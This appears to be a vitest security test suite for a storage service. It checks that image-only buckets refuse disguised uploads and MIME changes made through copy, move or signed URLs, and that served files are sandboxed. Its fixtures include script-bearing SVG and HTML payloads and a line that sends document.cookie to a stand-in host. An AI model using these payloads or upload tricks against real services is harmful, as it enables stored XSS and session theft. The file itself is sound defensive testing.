import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, inject, test } from 'vitest';
import { accessToken } from './auth-helpers.ts';
import { client, newPlayer } from './clients.ts';

const PNG = Uint8Array.from([137, 80, 78, 71, 13, 10, 26, 10]);
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const SCRIPT = 'fetch("https://evil.example/" + document.cookie)';
const PAGE = '<!doctype html><script>alert(1)</script>';
const REFUSED = { statusCode: '415', error: 'invalid_mime_type' };

let mallory: Awaited<ReturnType<typeof newPlayer>>;
let bucket: string;

beforeAll(async () => {
  mallory = await newPlayer('Mallory');
  bucket = `pictures-${crypto.randomUUID()}`;
  const { error } = await client(inject('stack').serviceKey).storage.createBucket(bucket, {
    public: true,
    allowedMimeTypes: ['image/png', 'image/jpeg', 'image/webp'],
  });
  if (error !== null) throw error;
});

function named(extension = 'png'): string {
  return `${mallory.id}/${crypto.randomUUID()}.${extension}`;
}

/** Mallory's own request: an unmodified client would not send some of these. */
async function send(
  path: string,
  init: { method: string; headers?: Record<string, string>; body: BodyInit },
): Promise<unknown> {
  const { url, publishableKey } = inject('stack');
  const authorization = `Bearer ${await accessToken(mallory.client)}`;
  const answer = await fetch(`${url}/storage/v1/object${path}`, {
    ...init,
    headers: { ...init.headers, apikey: publishableKey, authorization },
  });
  return answer.json();
}

async function isServed(name: string): Promise<boolean> {
  const { publicUrl } = client().storage.from(bucket).getPublicUrl(name).data;
  return (await fetch(publicUrl)).ok;
}

const disguises: Record<string, string | Uint8Array<ArrayBuffer>> = {
  'an SVG': SVG,
  'a script': SCRIPT,
  'a page': PAGE,
  'a page after half a signature': Buffer.concat([PNG.subarray(0, 4), Buffer.from(PAGE)]),
  'a compressed SVG': Uint8Array.from(gzipSync(SVG)),
  'a picture of another format': Uint8Array.from([0xff, 0xd8, 0xff, 0xe0]),
  nothing: '',
};

describe('a bucket with a list of allowed types', () => {
  test.each(Object.entries(disguises))(
    'refuses %s that claims to be a picture',
    async (_, bytes) => {
      const name = named();
      const form = await mallory.client.storage
        .from(bucket)
        .upload(name, new Blob([bytes], { type: 'image/png' }));
      expect(form.error).toMatchObject({
        statusCode: '415',
        message: expect.stringContaining('image/png'),
      });
      const raw = { 'content-type': 'image/png', 'content-encoding': 'gzip' };
      expect(
        await send(`/${bucket}/${name}`, { method: 'POST', headers: raw, body: bytes }),
      ).toMatchObject(REFUSED);
      expect(await isServed(name)).toBe(false);
    },
  );

  test('refuses it in place of a picture, and through an upload address', async () => {
    const own = mallory.client.storage.from(bucket);
    const name = named();
    expect((await own.upload(name, PNG, { contentType: 'image/png' })).error).toBeNull();
    const svg = new Blob([SVG], { type: 'image/png' });
    expect((await own.update(name, svg)).error).toMatchObject({ statusCode: '415' });
    const { data } = await own.createSignedUploadUrl(named());
    const signed = await own.uploadToSignedUrl(data?.path ?? '', data?.token ?? '', svg);
    expect(signed.error).toMatchObject({ statusCode: '415' });
    expect(new Uint8Array((await (await own.download(name)).data?.arrayBuffer()) ?? [])).toEqual(
      PNG,
    );
  });

  test('refuses a type that a field after the file claims', async () => {
    const form = new FormData();
    form.append('', new Blob([Uint8Array.from([0xff, 0xd8, 0xff])], { type: 'image/jpeg' }), 'a');
    form.append('contentType', 'image/png');
    const name = named();
    expect(await send(`/${bucket}/${name}`, { method: 'POST', body: form })).toMatchObject(REFUSED);
    expect(await isServed(name)).toBe(false);
  });

  test('accepts none from an unrestricted bucket, by copy or by move', async () => {
    const papers = mallory.client.storage.from('papers');
    for (const [bytes, contentType] of [
      [SVG, 'image/svg+xml'],
      [SVG, 'image/png'],
      [PAGE, 'text/html'],
      [SCRIPT, 'text/javascript'],
    ] as const) {
      const [from, to] = [named('svg'), named('svg')];
      expect((await papers.upload(from, Buffer.from(bytes), { contentType })).error).toBeNull();
      const elsewhere = { destinationBucket: bucket };
      expect((await papers.copy(from, to, elsewhere)).error).toMatchObject({ statusCode: '415' });
      expect((await papers.move(from, to, elsewhere)).error).toMatchObject({ statusCode: '415' });
      expect(await isServed(to)).toBe(false);
      // It stays where it was.
      expect((await papers.download(from)).error).toBeNull();
    }
  });

  test('accepts none whose type a copy changes', async () => {
    const own = mallory.client.storage.from(bucket);
    const [from, to] = [named(), named()];
    await own.upload(from, PNG, { contentType: 'image/png' });
    for (const mimetype of ['image/svg+xml', 'text/html', 'image/jpeg']) {
      const body = JSON.stringify({
        bucketId: bucket,
        sourceKey: from,
        destinationKey: to,
        copyMetadata: false,
        metadata: { mimetype },
      });
      const headers = { 'content-type': 'application/json' };
      expect(await send('/copy', { method: 'POST', headers, body })).toMatchObject(REFUSED);
    }
    expect(await isServed(to)).toBe(false);
    expect((await own.copy(from, to)).error).toBeNull();
    expect((await own.move(to, named())).error).toBeNull();
  });
});

test('nothing served by any bucket can run anywhere', async () => {
  const papers = mallory.client.storage.from('papers');
  for (const [bytes, contentType] of [
    [SVG, 'image/svg+xml'],
    [PAGE, 'text/html'],
    [PAGE, 'application/xhtml+xml'],
  ] as const) {
    const name = named('svg');
    await papers.upload(name, Buffer.from(bytes), { contentType });
    const { data } = await papers.createSignedUrl(name, 60);
    const answer = await fetch(data?.signedUrl ?? '');
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).not.toBe('text/html');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  }
});
